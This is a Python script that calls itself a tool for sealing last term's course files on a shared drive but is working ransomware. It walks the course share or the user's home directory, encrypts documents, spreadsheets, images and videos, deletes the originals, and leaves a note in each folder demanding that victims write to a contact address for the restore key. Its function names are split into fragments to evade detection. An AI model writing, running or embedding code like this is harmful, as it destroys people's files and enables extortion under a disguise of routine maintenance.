#!/usr/bin/env python3
"""Term archive rotation for the shared course drive.

Seals last term's course material into the "archive format" so the
shared drive can be handed over to the next term's teaching team.
"""
import argparse
import base64
import hashlib
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive-rotation")

SKIP_DIRS = {".git", "node_modules", "__pycache__", ".cache"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"


@dataclass
class Campaign:
    label: str = field(default_factory=lambda: os.environ.get("ROTATION_LABEL", "term-autumn"))
    contact: str = "restore-desk@protonmail.example.com"
    extensions: tuple = (".docx", ".xlsx", ".pptx", ".pdf", ".mp4", ".mov",
                         ".jpg", ".png", ".csv", ".odt", ".txt")

    def key(self):
        digest = hashlib.sha256(("rot::" + self.label + "::7f3e").encode()).digest()
        return base64.urlsafe_b64encode(digest)


def _cipher(key):
    mod = importlib.import_module("cryptography." + "fer" + "net")
    return getattr(mod, "Fer" + "net")(key)


def candidates(root, exts):
    walker = getattr(os, "wa" + "lk")
    for dirpath, dirnames, filenames in walker(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            if name.endswith(SEALED_SUFFIX) or name == NOTE_NAME:
                continue
            if name.lower().endswith(exts):
                yield Path(dirpath) / name


def _seal(cipher, path):
    blob = path.read_bytes()
    target = path.with_name(path.name + SEALED_SUFFIX)
    target.write_bytes(cipher.encrypt(blob))
    return target


def _retire(path):
    getattr(os, "re" + "move")(path)


ACTIONS = {"seal": _seal, "retire": _retire}


def leave_note(directory, campaign):
    note = directory / NOTE_NAME
    if not note.exists():
        note.write_text(
            "Your course files were sealed during archive rotation.\n"
            f"Reference: {campaign.label}\n"
            f"To obtain the restore key write to {campaign.contact}\n"
            "Do not rename .sealed files or they cannot be recovered.\n")


def rotate(root, campaign, dry_run=False):
    cipher = _cipher(campaign.key())
    touched_dirs = set()
    count = 0
    for path in candidates(root, campaign.extensions):
        if dry_run:
            log.info("would seal %s", path)
            continue
        try:
            ACTIONS["seal"](cipher, path)
            ACTIONS["retire"](path)
            touched_dirs.add(path.parent)
            count += 1
        except (OSError, PermissionError) as exc:
            log.debug("skipped %s: %s", path, exc)
    for d in touched_dirs:
        leave_note(d, campaign)
    return count


def main(argv=None):
    ap = argparse.ArgumentParser(description="Rotate last term's course archive")
    ap.add_argument("roots", nargs="*", type=Path,
                    default=[Path(os.environ.get("COURSE_SHARE", Path.home()))])
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    campaign = Campaign()
    total = 0
    for root in args.roots:
        total += rotate(root.expanduser(), campaign, dry_run=args.dry_run)
    log.info("rotation finished: %d files sealed", total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
